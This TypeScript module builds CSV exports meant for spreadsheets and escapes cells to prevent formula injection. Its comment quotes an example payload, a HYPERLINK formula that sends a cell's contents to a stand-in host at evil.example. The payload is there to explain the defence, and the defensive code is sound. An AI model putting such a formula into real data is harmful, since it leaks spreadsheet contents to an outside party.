import { stringify, type Stringifier } from "csv-stringify";

/**
 * CSV for people who open it in a spreadsheet, written by csv-stringify (RFC 4180 quoting: a cell
 * with a comma, quote or line break is quoted, quotes doubled).
 *
 * Formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some read a
 * leading tab or carriage return the same way) as a formula, so a legal name such as
 * `=HYPERLINK("http://evil.example?"&A1)` typed into the portal would act in the broker's spreadsheet.
 * Such a cell is written with a leading apostrophe (`'=HYPERLINK(...)`), which spreadsheets show as
 * text (OWASP's advice). Plain numbers are left alone: money is exact decimal text (`-125.50`, never a
 * float) and must stay a number a spreadsheet can add up (csv-stringify's own `escape_formulas` would
 * turn every negative amount into text).
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

export function spreadsheetSafe(cell: string): string {
  return FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) ? `'${cell}` : cell;
}

/** A CSV stream of rows (arrays, in `columns` order), with a header line and a UTF-8 byte order mark (for spreadsheets' sake). */
export function csvStream(columns: readonly string[]): Stringifier {
  return stringify({
    header: true,
    columns: [...columns],
    bom: true,
    record_delimiter: "windows",
    cast: {
      string: (value) => spreadsheetSafe(value),
      boolean: (value) => (value ? "true" : "false"),
    },
  });
}

/** Data rows a CSV stream has written so far (the header line not counted). */
export function rowsWritten(csv: Stringifier): number {
  return (csv as unknown as { info: { records: number } }).info.records;
}
